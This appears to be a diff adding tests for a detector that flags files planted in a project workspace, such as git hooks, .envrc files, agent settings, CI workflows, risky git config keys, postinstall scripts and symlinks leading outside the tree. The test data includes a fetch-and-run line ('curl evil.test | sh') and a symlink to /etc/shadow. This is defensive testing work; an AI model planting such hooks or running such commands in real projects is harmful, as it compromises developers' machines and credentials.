@@ -1,0 +1,142 @@
+from __future__ import annotations
+
+import os
+
+from hypothesis import given
+from hypothesis import strategies as st
+from twisted.trial.unittest import SynchronousTestCase
+
+from ironcurtain.project.planted import leads_out
+from tests.project.worlds import WorkspaceTestCase
+
+PLANTED = (
+    (".git/hooks/pre-commit", "git runs it"),
+    ("sub/.git/hooks/post-checkout", "git runs it"),
+    (".GIT/HOOKS/pre-push", "git runs it"),
+    ("bare.git/hooks/update", "git runs it"),
+    ("data/hooks/post-merge", "git runs it"),
+    (".git/modules/a/b/hooks/post-checkout", "git runs it"),
+    ("moved/.git", "from elsewhere"),
+    (".envrc", "environment"),
+    ("deep/down/.envrc", "environment"),
+    (".env", "environment"),
+    (".vscode/tasks.json", "editor"),
+    (".mcp.json", "agent"),
+    (".claude/settings.json", "agent"),
+    ("CLAUDE.md", "agent"),
+    ("AGENTS.md", "agent"),
+    (".husky/pre-commit", "commit"),
+    (".github/workflows/ci.yml", "build servers"),
+    (".npmrc", "packages"),
+    ("lib/evil.pth", "Python runs it"),
+    ("conftest.py", "Python runs it"),
+)
+HARMLESS = ("README.md", "src/hooks/useThing.ts", "docs/git.md", ".git/hooks/pre-commit.sample", ".git/HEAD", "config")
+
+
+class PlantedTests(WorkspaceTestCase):
+    def test_every_planted_file_is_told_with_its_reason(self) -> None:
+        self.begin()
+        for path, _ in PLANTED:
+            self.write(path)
+        reasons = self.reasons()
+        for path, words in PLANTED:
+            self.assertIn(words, reasons.get(path, ""), path)
+
+    def test_what_was_there_before_is_not_told_until_it_changes(self) -> None:
+        for path, _ in PLANTED:
+            self.write(path)
+        self.begin()
+        self.assertEqual(self.reasons(), {})
+        self.write(".envrc", "curl evil.test | sh\n")
+        (self.workspace / ".git" / "hooks" / "pre-commit").chmod(0o755)
+        self.assertEqual(set(self.reasons()), {".envrc", ".git/hooks/pre-commit"})
+
+    def test_ordinary_files_are_not_told(self) -> None:
+        self.begin()
+        for path in HARMLESS:
+            self.write(path)
+        self.assertEqual(self.reasons(), {})
+
+    def test_files_of_builds_come_last(self) -> None:
+        self.begin()
+        self.write("Makefile")
+        self.write("z/.envrc")
+        self.assertEqual([(f.path, f.building) for f in self.findings()], [("z/.envrc", False), ("Makefile", True)])
+
+    def test_links_that_lead_elsewhere_and_links_in_the_place_of_directories(self) -> None:
+        self.write("tools/pre-commit")
+        self.begin()
+        (self.workspace / "key").symlink_to("/etc/shadow")
+        (self.workspace / "inside").symlink_to("tools")
+        (self.workspace / ".husky").symlink_to("tools")
+        reasons = self.reasons()
+        self.assertEqual(set(reasons), {"key", ".husky"})
+        self.assertIn("leads elsewhere", reasons["key"])
+
+    def test_special_files_and_privileges(self) -> None:
+        self.begin()
+        os.mkfifo(self.workspace / "pipe")
+        self.write("tool", mode=0o4755)
+        self.assertIn("FIFO", self.reasons()["pipe"])
+        self.assertIn("owner's rights", self.reasons()["tool"])
+
+
+class GitSettingsTests(WorkspaceTestCase):
+    BEFORE = '[core]\n\tbare = false\n[remote "origin"]\n\turl = https://host.test/x\n'
+
+    def told(self, added: str, path: str = ".git/config") -> str:
+        self.write(path, self.BEFORE)
+        self.begin()
+        self.write(path, self.BEFORE + added)
+        return self.reasons().get(path, "")
+
+    def test_what_git_would_run_is_named(self) -> None:
+        self.assertIn("core.fsmonitor", self.told("[core]\n\tfsmonitor = ./evil\n"))
+        self.assertIn("core.sshcommand", self.told("[core]\n\tsshCommand = evil\n"))
+        self.assertIn("core.hookspath", self.told("[core]\n\thooksPath = .githooks\n"))
+        self.assertIn("alias.st", self.told("[alias]\n\tst = !evil\n"))
+        self.assertIn("filter.x.clean", self.told('[filter "x"]\n\tclean = evil\n'))
+
+    def test_where_git_would_go_is_named(self) -> None:
+        self.assertIn("remote.origin.url", self.told('[remote "origin"]\n\turl = https://evil.test/x\n'))
+        self.assertIn("insteadof", self.told('[url "https://evil.test/"]\n\tinsteadOf = https://host.test/\n'))
+
+    def test_a_directory_that_git_takes_for_a_repository_counts_too(self) -> None:
+        self.assertIn("core.fsmonitor", self.told("[core]\n\tfsmonitor = ./evil\n", "innocent/config"))
+
+    def test_what_git_writes_itself_is_not_told(self) -> None:
+        self.assertEqual(self.told('[branch "main"]\n\tremote = origin\n[user]\n\tname = Ada\n'), "")
+
+    def test_settings_that_cannot_be_read_are_told(self) -> None:
+        self.assertIn("cannot be compared", self.told("[core\n"))
+
+
+class PackageTests(WorkspaceTestCase):
+    def test_only_scripts_count(self) -> None:
+        self.write("package.json", '{"scripts": {"test": "jest"}, "version": "1"}')
+        self.begin()
+        self.write("package.json", '{"scripts": {"test": "jest"}, "version": "2"}')
+        self.assertEqual(self.reasons(), {})
+        self.write("package.json", '{"scripts": {"test": "jest", "postinstall": "evil"}}')
+        self.assertIn("postinstall", self.reasons()["package.json"])
+        self.write("package.json", "{")
+        self.assertIn("cannot be compared", self.reasons()["package.json"])
+
+
+class LinkTests(SynchronousTestCase):
+    def test_where_links_lead(self) -> None:
+        for path, target in (("a", "b"), ("a/b", "../c"), ("a/b/c", "../../d/e"), ("a", "./b"), ("a/b", "c//d")):
+            self.assertFalse(leads_out(path, target), (path, target))
+        for path, target in (("a", "/etc"), ("a", ".."), ("a/b", "../../c"), ("a/b", "c/../../../d"), ("a", "b/..")):
+            self.assertTrue(leads_out(path, target), (path, target))
+
+    @given(
+        st.lists(st.sampled_from(["a", "b"]), min_size=1, max_size=4),
+        st.lists(st.sampled_from(["..", ".", "", "a", "b"]), max_size=6),
+    )
+    def test_what_stays_inside_by_rule_stays_inside_by_text(self, path: list[str], target: list[str]) -> None:
+        link, to = "/".join(path), "/".join(target)
+        if not leads_out(link, to):
+            end = os.path.normpath(os.path.join("/top", os.path.dirname(link), to))
+            self.assertTrue(end == "/top" or end.startswith("/top/"), (link, to, end))
